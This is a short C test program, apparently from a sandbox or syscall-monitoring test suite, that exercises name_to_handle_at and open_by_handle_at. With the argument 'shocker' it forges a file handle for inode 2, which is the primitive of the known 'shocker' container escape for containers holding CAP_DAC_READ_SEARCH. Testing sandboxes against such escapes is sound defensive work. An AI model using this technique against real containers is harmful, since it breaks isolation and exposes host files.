// Asks for the handle of "/" and opens it again by that handle; with argument "shocker" opens inode 2, the
// root of most disks, by a handle it made up. open_by_handle_at(2) goes past every path check: the known
// escape ("shocker") from containers that kept CAP_DAC_READ_SEARCH.
// Tally: RV ("name_to_handle_at" or "open_by_handle_at").
#include "program.h"

#include <fcntl.h>

int main(int argc, char** argv) {
  union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } file;
  int mount_id = 0;
  memset(&file, 0, sizeof file);
  if (argc > 1 && strcmp(argv[1], "shocker") == 0) {
    file.handle.handle_bytes = 8;
    file.handle.handle_type = 1;  // FILEID_INO32_GEN
    file.handle.f_handle[0] = 2;
  } else {
    file.handle.handle_bytes = MAX_HANDLE_SZ;
    TRY("name_to_handle_at", name_to_handle_at(AT_FDCWD, "/", &file.handle, &mount_id, 0));
  }
  TRY("open_by_handle_at", open_by_handle_at(open("/", O_RDONLY), &file.handle, O_RDONLY));
  End();
  return 0;
}
